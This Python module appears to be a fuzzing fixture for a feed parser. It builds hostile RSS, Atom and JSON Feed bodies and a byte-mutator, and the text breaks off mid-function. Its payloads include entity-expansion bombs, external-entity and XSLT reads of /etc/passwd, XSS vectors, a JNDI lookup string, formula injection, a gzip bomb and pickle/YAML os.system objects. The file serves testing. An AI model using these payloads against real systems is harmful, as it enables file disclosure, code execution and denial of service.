# ruff: noqa: E501 - an attack to a line
"""Hostile bodies, each beside honest entries where it has room for them, and a mutator of honest ones.

Everything is made from numbers, so that a name or a seed gives the same bytes everywhere.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

GOOD = 6
"""Honest entries of a body: half of them before the poison, half behind it."""

BEFORE = GOOD // 2


@dataclass(frozen=True, slots=True)
class Hostile:
    """`good` are the titles of the honest entries that have to come out, each once; empty where nothing need survive.

    `exact`: no other entry may bear such a title. `content_type` is the header that came with it.
    """

    name: str
    body: bytes
    good: frozenset[str] = frozenset()
    content_type: str | None = None


def title(number: int) -> str:
    return f"Honest report {number} on talks – 日印 वार्ता"


TITLES = frozenset(map(title, range(GOOD)))
FIRST = frozenset(map(title, range(BEFORE)))


def rss_item(number: int) -> str:
    return (
        f"<item><title>{title(number)}</title><link>https://honest.example/{number}</link>"
        f"<guid>https://honest.example/{number}</guid><description>Text of report {number}.</description>"
        f"<pubDate>Mon, 05 May 2025 0{number}:00:00 GMT</pubDate></item>"
    )


def atom_entry(number: int) -> str:
    return (
        f"<entry><title>{title(number)}</title><link href='https://honest.example/{number}'/><id>urn:honest:{number}</id>"
        f"<updated>2025-05-05T0{number}:00:00Z</updated><summary>Text of report {number}.</summary></entry>"
    )


def json_item(number: int) -> dict[str, object]:
    return {
        "id": f"urn:honest:{number}",
        "url": f"https://honest.example/{number}",
        "title": title(number),
        "content_text": f"Text of report {number}.",
        "date_published": f"2025-05-05T0{number}:00:00Z",
    }


def rss(
    poison: str = "", head: str = "", prolog: str = "<?xml version='1.0' encoding='utf-8'?>", root: str = ""
) -> bytes:
    """An RSS document with the poison among its items."""
    items = [*map(rss_item, range(BEFORE)), poison, *map(rss_item, range(BEFORE, GOOD))]
    text = f"{prolog}<rss version='2.0'{root}><channel><title>Honest</title>{head}{''.join(items)}</channel></rss>"
    return text.encode("utf-8", "surrogatepass")


def atom(poison: str = "", head: str = "", prolog: str = "<?xml version='1.0' encoding='utf-8'?>") -> bytes:
    """An Atom document with the poison among its entries."""
    entries = [*map(atom_entry, range(BEFORE)), poison, *map(atom_entry, range(BEFORE, GOOD))]
    root = f"<feed xmlns='http://www.w3.org/2005/Atom'><title>Honest</title>{head}"
    return f"{prolog}{root}{''.join(entries)}</feed>".encode("utf-8", "surrogatepass")


def rdf(poison: str = "") -> bytes:
    """An RSS 1.0 document with the poison among its items."""
    items = [*map(rss_item, range(BEFORE)), poison, *map(rss_item, range(BEFORE, GOOD))]
    root = "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'>"
    return f"{root}<channel><title>Honest</title></channel>{''.join(items)}</rdf:RDF>".encode()


def json_feed(*poison: str, head: str = "") -> bytes:
    """A JSON Feed with the poison, JSON already, among its items."""
    items = [*(json.dumps(json_item(n)) for n in range(BEFORE)), *poison]
    items += [json.dumps(json_item(n)) for n in range(BEFORE, GOOD)]
    return (
        f'{{"version": "https://jsonfeed.org/version/1.1", "title": "Honest", {head}"items": [{", ".join(items)}]}}'
    ).encode()


def bodies() -> Iterator[Hostile]:
    """All of them; names are distinct, and so are bodies."""
    return (one for family in FAMILIES for one in family())


def _big() -> Iterator[Hostile]:
    """Long texts in every element, and long names, addresses, comments and instructions."""
    for element in (
        "title", "link", "guid", "description", "pubDate", "author", "category", "comments", "source", "enclosure",
        "dc:creator", "content:encoded", "managingEditor", "unknown", "media:title", "itunes:author", "geo:point",
        "dc:date", "itunes:duration", "dcterms:modified", "slash:comments", "ttl", "language", "copyright", "generator",
    ):  # fmt: skip
        for shape, text in (
            ("a", "a" * 70_000),
            ("a.", "a." * 35_000),
            ("a@", "a@" * 20_000),
            ("sp", " " * 70_000 + "x"),
        ):
            item = f"<item><title>poison</title><{element}>{text}</{element}></item>"
            yield Hostile(f"long {element} of {shape}", rss(item, root=NAMESPACES), TITLES)
    for shape, text in (("9", "9" * 70_000), ("-", "-" * 70_000), (":", "1:" * 35_000), ("(", "(" * 70_000)):
        item = f"<item><title>poison</title><pubDate>{text}</pubDate><link>{text}</link></item>"
        yield Hostile(f"long date of {shape}", rss(item), TITLES)
    for element in ("author", "contributor", "id", "updated", "published", "category", "rights", "link"):
        entry = f"<entry><title>poison</title><{element}><name>{'a' * 70_000}</name></{element}></entry>"
        yield Hostile(f"long atom {element}", atom(entry), TITLES)
    yield Hostile("long title of markup", rss(f"<item><title>{'&lt;b&gt;' * 20_000}x</title></item>"), TITLES)
    yield Hostile(
        "megabytes of text", rss(f"<item><title>p</title><description>{'word ' * 800_000}</description></item>"), TITLES
    )
    yield Hostile("long tag name", rss(f"<item><{'t' * 500_000}/></item>"), TITLES)
    yield Hostile("long comment", rss(f"<!--{'x ' * 500_000}-->"), TITLES)
    yield Hostile("long instruction", rss(f"<?x {'x ' * 500_000}?>"), TITLES)
    yield Hostile("long cdata", rss(f"<item><title><![CDATA[{'x' * 2_000_000}]]></title></item>"), TITLES)


def _many() -> Iterator[Hostile]:
    """Very many of one thing within one entry, or before the entries."""
    for name, piece, count in (
        ("categories", "<category>a{}</category>", 30_000), ("links", "<link>https://x.example/{}</link>", 20_000),
        ("enclosures", "<enclosure url='https://x.example/{}'/>", 20_000), ("authors", "<author>a{}@b.cc</author>", 20_000),
        ("creators", "<dc:creator>a{}</dc:creator>", 20_000), ("titles", "<title>t{}</title>", 20_000),
        ("dates", "<pubDate>Mon, 05 May 2025 00:00:{}</pubDate>", 10_000), ("guids", "<guid>g{}</guid>", 20_000),
        ("empty tags", "<a/>", 300_000), ("unknown tags", "<a{0}>x</a{0}>", 60_000),
        ("media", "<media:content url='https://x.example/{}'/>", 20_000), ("sources", "<source url='u'>s{}</source>", 20_000),
        ("comments", "<!--{}-->", 100_000), ("instructions", "<?a {}?>", 100_000), ("cdata", "<![CDATA[{}]]>", 100_000),
        ("references", "&amp;", 300_000), ("character references", "&#x41;", 300_000), ("nested items", "<item>", 3_000),
        ("channels", "<channel>", 3_000), ("images", "<image><url>u</url></image>", 10_000),
        ("namespaces", "<a xmlns:n{0}='http://n{0}'/>", 20_000), ("languages", "<a xml:lang='l{}'/>", 20_000),
        ("bases", "<a xml:base='https://b{}.example/'/>", 20_000), ("contents", "<content:encoded>x{}</content:encoded>", 10_000),
    ):  # fmt: skip
        poison = "".join(piece.format(number) for number in range(count))
        good = FIRST if name == "nested items" else TITLES
        yield Hostile(f"many {name}", rss(f"<item><title>poison</title>{poison}</item>", root=NAMESPACES), good)
        if name in {"categories", "empty tags", "comments", "unknown tags", "namespaces", "references"}:
            yield Hostile(f"many {name} of a channel", rss(head=poison, root=NAMESPACES), TITLES)
    for name, element in (
        ("atom links", "<link href='https://x.example/{}'/>"),
        ("atom people", "<author><name>n{}</name></author>"),
    ):
        poison = "".join(element.format(number) for number in range(20_000))
        yield Hostile(f"many {name}", atom(f"<entry><title>poison</title>{poison}</entry>"), TITLES)
    attributes = " ".join(f"a{number}='x'" for number in range(20_000))
    yield Hostile("many attributes", rss(f"<item><title {attributes}>poison</title></item>"), TITLES)
    yield Hostile("many attributes of the root", rss(root=f" {attributes}"), TITLES)
    yield Hostile(
        "many namespaces of the root", rss(root="".join(f" xmlns:n{n}='http://n{n}/'" for n in range(5_000))), TITLES
    )
    yield Hostile("twice the same attribute", rss("<item><title a='1' a='2'>poison</title></item>"), TITLES)
    yield Hostile("very many items", rss("".join(f"<item><title>p{n}</title></item>" for n in range(20_000))), FIRST)
    yield Hostile("very many alike items", rss("<item><title>p</title></item>" * 4_000), TITLES)
    yield Hostile("one guid for all", rss("<item><guid>same</guid><title>p</title></item>" * 1_000), TITLES)
    yield Hostile("very many json items", json_feed(*(f'{{"id": "{n}"}}' for n in range(20_000))), FIRST)
    yield Hostile(
        "many json tags", json_feed(json.dumps({"id": "p", "tags": [f"t{n}" for n in range(50_000)]})), TITLES
    )
    yield Hostile(
        "many json authors",
        json_feed(json.dumps({"id": "p", "authors": [{"name": f"n{n}"} for n in range(50_000)]})),
        TITLES,
    )


def _deep() -> Iterator[Hostile]:
    """Nesting, of XML, of escaped and of plain HTML, and of JSON."""
    for depth in (600, 5_000, 50_000, 150_000):
        yield Hostile(f"deep xml {depth}", rss(f"<item><title>p</title>{'<a>' * depth}{'</a>' * depth}</item>"), TITLES)
        yield Hostile(f"deep xml never closed {depth}", rss(f"<item><title>p</title>{'<a>' * depth}"), FIRST)
        html = f"{'&lt;div&gt;' * depth}text"
        yield Hostile(
            f"deep html {depth}", rss(f"<item><title>p</title><description>{html}</description></item>"), TITLES
        )
        for tag in ("b", "a", "table", "font", "svg", "math", "p", "select", "template", "form"):
            if depth == 50_000:
                text = f"&lt;{tag}&gt;" * depth
                yield Hostile(
                    f"deep html of {tag}",
                    rss(f"<item><title>{text}</title><description>{text}</description></item>"),
                    TITLES,
                )
        cdata = f"<![CDATA[{'<div><table><tr><td>' * (depth // 4)}]]>"
        yield Hostile(
            f"deep tables {depth}", rss(f"<item><title>p</title><description>{cdata}</description></item>"), TITLES
        )
        xhtml = f"<content type='xhtml'>{'<div>' * depth}x{'</div>' * depth}</content>"
        yield Hostile(f"deep xhtml {depth}", atom(f"<entry><title>p</title>{xhtml}</entry>"), TITLES)
        arrays = "[" * depth + "]" * depth
        yield Hostile(
            f"deep json arrays {depth}", json_feed(f'{{"id": "p", "x": {arrays}}}'), TITLES if depth < 900 else FIRST
        )
        objects = '{"a":' * depth + "1" + "}" * depth
        yield Hostile(f"deep json objects {depth}", json_feed(objects), FIRST)
    yield Hostile("deep json and never closed", b'{"items": ' + b"[" * 100_000)
    yield Hostile("deep xml in the channel", rss(head="<a>" * 30_000 + "</a>" * 30_000), TITLES)


def _entities() -> Iterator[Hostile]:
    """Declarations: bombs, files, addresses, parameters, attribute lists."""
    laughs = "<!ENTITY l0 'lol'>" + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12))
    long = f"<!ENTITY q '{'q' * 100_000}'>"
    subsets = {
        "laughs": (laughs, "&l11;"),
        "quadratic": (long, "&q;" * 20_000),
        "file": ("<!ENTITY f SYSTEM 'file:///etc/passwd'>", "&f;"),
        "address": ("<!ENTITY f SYSTEM 'http://127.0.0.1:9/'>", "&f;"),
        "public": ("<!ENTITY f PUBLIC 'x' 'http://127.0.0.1:9/'>", "&f;"),
        "parameter": ("<!ENTITY % p SYSTEM 'http://127.0.0.1:9/x.dtd'> %p;", "x"),
        "parameters": ("<!ENTITY % a 'x'>" + "".join(f"<!ENTITY % a{n} '%a;%a;'>" for n in range(1000)), "x"),
        "recursive": ("<!ENTITY a '&b;'><!ENTITY b '&a;'>", "&a;"),
        "markup": ("<!ENTITY a '&lt;item>&lt;title>forged&lt;/title>&lt;/item>'>", "&a;"),
        "item": ("<!ENTITY a '<item><title>forged</title></item>'>", "&a;"),
        "lists": ("<!ATTLIST rss " + " ".join(f"a{n} CDATA 'x'" for n in range(60_000)) + ">", "x"),
        "many lists": ("".join(f"<!ATTLIST e{n} a CDATA 'x'>" for n in range(50_000)), "x"),
        "elements": ("".join(f"<!ELEMENT e{n} (#PCDATA)>" for n in range(50_000)), "x"),
        "model": (f"<!ELEMENT rss {'(' * 50_000}a{')' * 50_000}>", "x"),
        "notations": ("".join(f"<!NOTATION n{n} SYSTEM 'x'>" for n in range(20_000)), "x"),
        "unclosed": ("<!ENTITY a 'x", "x"),
        "brackets": ("]>" * 1000, "x"),
        "defaults": ("<!ATTLIST item xml:base CDATA 'javascript:alert(1)//'>", "x"),
        "numbers": ("<!ENTITY a '&#38;#60;script&#38;#62;'>", "&a;"),
        "conditional": ("<![INCLUDE[<!ENTITY a 'x'>]]>", "&a;"),
    }
    for name, (subset, use) in subsets.items():
        item = f"<item><title>poison {use}</title><description>{use}</description></item>"
        good = FIRST if name in {"unclosed", "brackets"} else TITLES
        for prolog_name, before in (
            ("", ""),
            (" behind a comment", "<!-- <rss> -->"),
            (" behind instructions", "<?x <rss?>\n"),
        ):
            prolog = f"<?xml version='1.0'?>{before}<!DOCTYPE rss [{subset}]>"
            yield Hostile(f"declared {name}{prolog_name}", rss(item, prolog=prolog), good)
    for name, doctype in (
        ("html", "<!DOCTYPE html>"), ("system", "<!DOCTYPE rss SYSTEM 'file:///etc/passwd'>"),
        ("twice", "<!DOCTYPE rss><!DOCTYPE rss [<!ENTITY a 'x'>]>"), ("endless", "<!DOCTYPE rss " + "'a' " * 50_000 + ">"),
        ("quotes", "<!DOCTYPE rss PUBLIC \">[\" '<rss>'>"), ("lower", "<!doctype rss [<!entity a 'x'>]>"),
    ):  # fmt: skip
        yield Hostile(f"doctype {name}", rss("<item><title>p &a; &nbsp;</title></item>", prolog=doctype), TITLES)
    inside = "<![CDATA[<!DOCTYPE x [<!ENTITY a 'b'>]>]]>"
    yield Hostile("doctype within an item", rss(f"<item><title>{inside}</title></item>"), TITLES)
    yield Hostile(
        "xinclude",
        rss(
            "<item><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/></item>"
        ),
        TITLES,
    )
    yield Hostile(
        "stylesheet",
        rss(prolog="<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://127.0.0.1:9/x.xsl'?>"),
        TITLES,
    )
    yield Hostile(
        "xslt",
        rss(
            "<item><xsl:value-of xmlns:xsl='http://www.w3.org/1999/XSL/Transform' select=\"document('file:///etc/passwd')\"/></item>"
        ),
        TITLES,
    )
    yield Hostile(
        "schema",
        rss(root=" xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='x http://127.0.0.1:9/'"),
        TITLES,
    )


def _characters() -> Iterator[Hostile]:
    """References to no characters, controls, surrogates, directions, and what reads differently than it looks."""
    references = ["&#0;", "&#x0;", "&#1;", "&#8;", "&#11;", "&#x1b;[31m", "&#x7f;", "&#x80;", "&#x85;", "&#x9f;", "&#xd800;",
                  "&#xdfff;", "&#xd83d;&#xde00;", "&#xfffe;", "&#xffff;", "&#x110000;", "&#99999999999999999999;", "&#-1;",
                  "&#x;", "&#;", "&#xfdd0;", "&#x1fffe;", "&#0000000000000000000000000000065;", "&#x202e;", "&undefined;",
                  "&amp;#x110000;", "&amp;#0;", "&", "&&", "&;", "&#" + "9" * 50_000 + ";", "&" + "a" * 50_000 + ";"]  # fmt: skip
    for reference in references:
        item = f"<item><title>poison {reference} x</title><description>{reference}</description><guid>{reference}</guid></item>"
        yield Hostile(f"reference {reference[:30]}", rss(item), TITLES)
    for code in (*range(9), 11, 12, *range(14, 32), 0x7F, 0x80, 0x9B, 0xAD, 0x200B, 0x200E, 0x202A, 0x202E, 0x2066, 0x2069,
                 0x2028, 0x2029, 0xFEFF, 0xFFF9, 0xFFFD, 0xFFFE, 0xFFFF, 0xD800, 0xDBFF, 0xDC00, 0xE000, 0xE0041, 0x1FFFF,
                 0x10FFFF):  # fmt: skip
        item = f"<item><title>poison {chr(code)} x</title><link>https://x.example/{chr(code)}</link></item>"
        yield Hostile(f"character {code:04x}", rss(item), TITLES)
    yield Hostile("nulls everywhere", rss().replace(b"<item>", b"<item>\0\0"), TITLES)
    yield Hostile("marks upon marks", rss("<item><title>" + "e\u0301" * 50_000 + "</title></item>"), TITLES)


def _encodings() -> Iterator[Hostile]:
    """Words on the encoding that are lies, and bytes that are none."""
    labels = ["utf-7", "utf-16", "utf-16-le", "utf-32", "cp037", "ebcdic-cp-us", "punycode", "idna", "unicode_escape",
              "raw_unicode_escape", "base64", "hex", "rot13", "zlib", "bz2", "undefined", "mbcs", "us-ascii", "latin-1",
              "shift_jis", "iso-2022-jp", "gb18030", "big5", "x-user-defined", "utf-8-sig", "cesu-8", "utf8mb4", "uu",
              "a" * 5_000, "../../etc/passwd", "utf-8' standalone='yes"]  # fmt: skip
    for label in labels:
        yield Hostile(f"declares {label[:30]}", rss(prolog=f'<?xml version="1.0" encoding="{label}"?>'), TITLES)
        yield Hostile(f"is served as {label[:30]}", rss("<!-- x -->"), TITLES, f"application/xml; charset={label}")
    text = rss().decode().replace("encoding='utf-8'", "")
    for name in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-7", "cp037"):
        yield Hostile(f"without a mark {name}", text.encode(name, "xmlcharrefreplace"))
    for name, mark in (("utf-16", ""), ("utf-32", ""), ("utf-8-sig", "")):
        yield Hostile(f"with a mark {name}", (mark + text).encode(name), TITLES)
    yield Hostile("mark of utf-16 upon utf-8", b"\xff\xfe" + rss())
    yield Hostile("half a character at the end", rss() + "日".encode()[:1], TITLES)
    yield Hostile(
        "half a character in a title",
        rss("<item><title>日</title></item>").replace("日<".encode(), "日".encode()[:2] + b"<"),
        TITLES,
    )
    yield Hostile("overlong bytes", rss().replace(b"Honest<", b"\xc0\xbc\xe0\x80\xbc<"))
    yield Hostile(
        "bytes that are no utf-8", rss("<item><title>Q</title></item>").replace(b">Q<", b">\xff\xfe\xfd\x80<")
    )
    yield Hostile("two declarations", b"<?xml version='1.0'?>" + rss(), TITLES)
    yield Hostile("version 1.1", rss(prolog="<?xml version='1.1'?>"), TITLES)
    yield Hostile("escapes of japanese", rss("<item><title>\x1b$B\x1b(B</title></item>"), TITLES)


def _broken() -> Iterator[Hostile]:
    """Structure that is wrong."""
    for name, poison, good in (
        ("cdata", "<item><title><![CDATA[never closed</title></item>", FIRST), ("comment", "<!-- never closed", FIRST),
        ("instruction", "<?never closed", FIRST), ("tag", "<item><title", FIRST), ("attribute", "<item a='", FIRST),
        ("cdata twice", "<item><title><![CDATA[a]]]]><![CDATA[>b]]></title></item>", TITLES),
        ("cdata in cdata", "<item><title><![CDATA[<![CDATA[a]]>]]></title></item>", TITLES),
        ("cdata end", "<item><title>]]></title></item>", TITLES), ("bare less", "<item><title>a < b</title></item>", TITLES),
        ("wrong nesting", "<item><title>a<b></title></b></item>", TITLES), ("wrong end", "</item></channel>", FIRST),
        ("undeclared prefix", "<item><x:y>a</x:y></item>", TITLES), ("no end", "<item><title>a</title>", FIRST),
        ("upper case", "<ITEM><TITLE>a</TITLE></ITEM>", TITLES), ("quotes", "<item><a b=c d>x</a></item>", TITLES),
        ("root again", "<rss><channel>", FIRST), ("end of root", "</channel></rss>", FIRST), ("script", "<script>while(1);</script>", TITLES),
        ("many less", "<" * 100_000, FIRST), ("many comments", "<!--" * 50_000, FIRST), ("many cdata", "<![CDATA[" * 50_000, FIRST),
        ("many doctypes", "<!DOCTYPE " * 50_000, FIRST), ("many quotes", "<a b='" * 50_000, FIRST), ("many ends", "</a>" * 50_000, TITLES),
        ("many ends of items", "</item>" * 20_000, FIRST), ("many instructions", "<?" * 50_000, FIRST), ("many ands", "&" * 100_000, TITLES),
        ("many brackets", "<![" * 50_000, FIRST), ("many slashes", "</" * 50_000, FIRST),
    ):  # fmt: skip
        yield Hostile(f"broken {name}", rss(poison), good)
        if len(poison) < 1000:
            yield Hostile(f"broken {name} in atom", atom(poison.replace("item", "entry")), good)
    whole = rss()
    for share in range(1, 20):
        cut = len(whole) * share // 20
        good = frozenset(
            title(n) for n in range(GOOD) if whole.find(rss_item(n).encode()) + len(rss_item(n).encode()) <= cut
        )
        yield Hostile(f"cut at {share}/20", whole[:cut], good)
    text = json_feed()
    for share in range(1, 10):
        cut = len(text) * share // 10
        good = frozenset(
            title(n)
            for n in range(GOOD)
            if text.find(json.dumps(json_item(n)).encode()) + len(json.dumps(json_item(n))) <= cut
        )
        yield Hostile(f"json cut at {share}/10", text[:cut], good)
    yield Hostile("junk before", b"junk junk junk " + whole)
    yield Hostile("junk behind", whole + b"<script>alert(1)</script>" * 1000, TITLES)
    yield Hostile("twice", whole + whole)
    yield Hostile("html around", b"<html><body>" + rss(prolog="") + b"</body></html>")


def _markup() -> Iterator[Hostile]:
    """Markup that would do something where it is shown, in every field."""
    vectors = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<a href='javascript:alert(1)'>x</a>", "<style>*{background:url(//x)}</style>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<xmp><img src=x onerror=alert(1)></xmp>",
        "<textarea><script>alert(1)</script></textarea>", "<title><script>alert(1)</script></title>", "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "<img src=//tracker.example/p.gif>", "<object data=data:text/html,x>", "<base href=//evil.example/>",
        "<template><script>alert(1)</script></template>", "<a\x00href=javascript:alert(1)>x</a>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "{{7*7191}}{%for x in y%}", "=cmd|' /C calc'!A0",
        "=?utf-8?q?x=0d=0aBcc=3aevil@evil.example?=", "\r\nBcc: evil@evil.example", "\x1b]0;owned\x07", "%n%s%x${jndi:ldap://x}",
    ]  # fmt: skip
    for number, vector in enumerate(vectors):
        text = vector.replace("&", "&amp;").replace("<", "&lt;")
        item = "".join(
            f"<{field}>{text} text</{field}>"
            for field in ("title", "description", "author", "category", "guid", "link", "source")
        )
        yield Hostile(
            f"markup {number} in rss", rss(f"<item>{item}</item>", head=f"<description>{text}</description>"), TITLES
        )
        fields = dict.fromkeys(
            ("id", "url", "title", "content_html", "content_text", "summary", "date_published", "language"), vector
        )
        yield Hostile(
            f"markup {number} in json",
            json_feed(json.dumps({**fields, "tags": [vector], "authors": [{"name": vector}]})),
            TITLES,
        )
    links = ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "vbscript:x", "//evil.example/", "\\\\evil\\x", "http://[", "http://a:b:c/",
             "https://user:pw@evil.example/", "ftp://x/", "mailto:x@y", "java\nscript:alert(1)", " javascript:alert(1)", "https://x.example/" + "a" * 60_000,
             "http://", "///", "?" * 1000, "https://x.example:99999/", "https://\u202egro.elpmaxe/", "https://exa\u00admple.org/"]  # fmt: skip
    for number, link in enumerate(links):
        yield Hostile(
            f"link {number} in rss",
            rss(f"<item><title>poison</title><link>{link}</link><guid isPermaLink='true'>{link}</guid></item>"),
            TITLES,
        )
        yield Hostile(
            f"link {number} in atom",
            atom(f'<entry><title>poison</title><link href="{link}"/><id>{link}</id></entry>'),
            TITLES,
        )
        yield Hostile(f"link {number} in json", json_feed(json.dumps({"id": "p", "url": link})), TITLES)


def _dates() -> Iterator[Hostile]:
    """Dates that are none, or of no calendar."""
    for date in ("0001-01-01T00:00:00Z", "9999-12-31T23:59:59-14:00", "99999-01-01", "-0001-01-01", "Thu, 32 Foo 2025 99:99:99 +9999", "0", "-1", "1e309",
                 "2025-02-30T25:61:61Z", "Mon, 05 May 2025 10:00:00 +999999", "२०२५-०५-०५", "2025年5月5日", "now", "٢٠٢٥-٠٥-٠٥T٠٠:٠٠:٠٠Z", "\u0000", "P1D",
                 "2025-05-05T10:00:00+99:99", "253402300800", "Mon, 05 May 99999999999 10:00:00 GMT", "2025-W19-1", "2025-125", "10:00", "24:00:00"):  # fmt: skip
        yield Hostile(f"date {date[:24]}", rss(f"<item><title>poison</title><pubDate>{date}</pubDate></item>"), TITLES)
        yield Hostile(f"json date {date[:24]}", json_feed(json.dumps({"id": "p", "date_published": date})), TITLES)


def _json() -> Iterator[Hostile]:
    """JSON of the wrong kinds, and none."""
    wrong: list[object] = [
        None,
        True,
        0,
        1.5,
        "text",
        [],
        {},
        [[]],
        {"a": []},
        10**30,
        -1,
        "",
        "\ud800",
        "\0",
        [None],
        {"": ""},
    ]
    for number, value in enumerate(wrong):
        names = (
            "id",
            "url",
            "external_url",
            "title",
            "content_html",
            "content_text",
            "summary",
            "date_published",
            "authors",
            "author",
            "tags",
            "language",
        )
        yield Hostile(f"json values {number}", json_feed(json.dumps(dict.fromkeys(names, value))), TITLES)
        yield Hostile(f"json item {number}", json_feed(json.dumps(value), "null"), TITLES)
        head = ", ".join(
            f'"{name}": {json.dumps(value)}'
            for name in ("home_page_url", "feed_url", "hubs", "language", "next_url", "expired")
        )
        yield Hostile(f"json head {number}", json_feed(head=head + ", "), TITLES)
    for name, literal in (
        ("nan", "NaN"),
        ("infinity", "-Infinity"),
        ("digits", "9" * 100_000),
        ("exponent", "1e999999"),
        ("negative", "-" + "9" * 5_000),
    ):
        yield Hostile(
            f"json number {name}", json_feed(f'{{"id": {literal}, "title": {literal}, "x": {literal}}}'), TITLES
        )
    yield Hostile("json keys twice", json_feed('{"id": "a", "id": "b", "title": "x", "title": ["y"]}'), TITLES)
    yield Hostile("json items twice", json_feed().replace(b'"items"', b'"items": [], "items"'), TITLES)
    for name, body in (
        ("list", b"[1, 2]"),
        ("empty object", b"{}"),
        ("empty list", b"[]"),
        ("items of text", b'{"items": "x"}'),
        ("open", b"{"),
        ("bracket", b"["),
    ):
        yield Hostile(f"json {name}", body)
    yield Hostile("json with a mark", b"\xef\xbb\xbf" + json_feed(), TITLES)
    yield Hostile("json with a comment", json_feed().replace(b"{", b"{ /* x */", 1))
    yield Hostile(
        "json of surrogates",
        json_feed('{"id": "\\ud800", "title": "\\udfff poison \\ud83d", "content_text": "\\u0000"}'),
        TITLES,
    )


def _no_feeds() -> Iterator[Hostile]:
    """What is no feed at all."""
    noise = random.Random(1).randbytes(100_000)
    html = b"<!DOCTYPE html><html><head><title>Log in</title></head><body><form>Wi-Fi portal</form></body></html>"
    for name, body in (
        ("nothing", b""), ("one byte", b"<"), ("a null", b"\0"), ("blanks", b" " * 1_000_000), ("nulls", b"\0" * 1_000_000), ("noise", noise),
        ("gzip", gzip.compress(rss(), mtime=0)), ("gzip bomb", gzip.compress(b"\0" * 5_000_000, mtime=0)), ("zlib", zlib.compress(rss())),
        ("base64", base64.b64encode(rss())), ("png", b"\x89PNG\r\n\x1a\n" + noise), ("jpeg", b"\xff\xd8\xff\xe0" + noise), ("gif", b"GIF89a" + noise),
        ("pdf", b"%PDF-1.7\n" + noise), ("zip", b"PK\x03\x04" + noise), ("elf", b"\x7fELF" + noise), ("html", html), ("portal", html * 100),
        ("long html", html.replace(b"<form>", b"<div>" * 100_000)), ("text", b"Not found"), ("path", b"/etc/passwd"), ("address", b"http://127.0.0.1:9/feed"),
        ("file address", b"file:///etc/passwd"), ("svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("opml", b"<opml version='2.0'><body><outline xmlUrl='http://127.0.0.1/'/></body></opml>"), ("soap", b"<soap:Envelope xmlns:soap='x'/>"),
        ("sitemap", b"<urlset><url><loc>https://x.example/</loc></url></urlset>"), ("pickle", b"\x80\x04\x95.cos\nsystem\n(S'true'\ntR."), ("yaml", b"!!python/object/apply:os.system ['true']"),
        ("less signs", b"<" * 500_000), ("ands", b"&" * 500_000), ("quotes", b"\"'" * 300_000), ("open comment", b"<!--" + b"-" * 1_000_000), ("open tag", b"<rss " + b"a " * 300_000),
        ("megabytes of tags", b"<rss><channel><item>" + b"<a/>" * 2_000_000), ("megabytes of tags in a head", b"<rss><channel>" + b"<a>x</a>" * 1_000_000),
    ):  # fmt: skip
        yield Hostile(f"no feed: {name}", body)


NAMESPACES = (
    " xmlns:dc='http://purl.org/dc/elements/1.1/' xmlns:content='http://purl.org/rss/1.0/modules/content/'"
    " xmlns:media='http://search.yahoo.com/mrss/' xmlns:itunes='http://www.itunes.com/dtds/podcast-1.0.dtd'"
    " xmlns:geo='http://www.georss.org/georss' xmlns:dcterms='http://purl.org/dc/terms/'"
    " xmlns:slash='http://purl.org/rss/1.0/modules/slash/'"
)
FAMILIES = (_big, _many, _deep, _entities, _characters, _encodings, _broken, _markup, _dates, _json, _no_feeds)

TOKENS = (
    b"<item>", b"</item>", b"<entry>", b"</channel>", b"<![CDATA[", b"]]>", b"<!--", b"-->", b"&#x110000;", b"&#0;", b"\0", b"\xff\xfe", b"<rss>",
    b"<author>", b"a@", b"<!DOCTYPE x [", b"<!ENTITY a 'b'>", b"&a;", b"xml:base='//x/'", b"<content type='xhtml'>", b"<div>", b"{", b"[", b"}", b"]",
    b'"', b"'", b">", b"<", b"&", b"\xe6\x97", b"\x1b$B", b"encoding='utf-7'", b"xmlns:", b"<link/>", b"9" * 400, b"\xed\xa0\x80", b"<?xml", b"</", b"\r\n",
)  # fmt: skip


def mutants(seeds: list[bytes], count: int, seed: int) -> Iterator[bytes]:
    """Honest documents with one to eight wounds each, the same for the same seed."""
    chance = random.Random(seed)
    for _ in range(count):
        body = bytearray(chance.choice(seeds))
        for _ in range(chance.randint(1, 8)):
            _wound(body, chance)
        yield bytes(body)


def _wound(body: bytearray, chance: random.Random) -> None:
    size = len(body)
    if size < 8:
        body += chance.choice(TOKENS)
        return
    start = chance.randrange(size)
    end = min(size, start + int(chance.paretovariate(0.6)))
    match chance.randrange(8):
        case 0:
            body[start] ^= 1 << chance.randrange(8)
        case 1:
            del body[start:end]
        case 2:
            body[start:start] = body[start:end] * chance.randint(1, 20)
        case 3:
            body[start:start] = chance.choice(TOKENS) * chance.choice((1, 1, 1, 2, 50))
        case 4:
            del body[start:]
        case 5:
            other = chance.randrange(size)
            body[start:end], body[other : other + 20] = body[other : other + 20], body[start:end]
        case 6:
            _repeat_tag(body, chance)
        case _:
            body[start:end] = chance.randbytes(min(end - start, 100))


def _repeat_tag(body: bytearray, chance: random.Random) -> None:
    """Write a tag a second time somewhere else."""
    opening = body.find(b"<", chance.randrange(len(body)))
    closing = body.find(b">", opening)
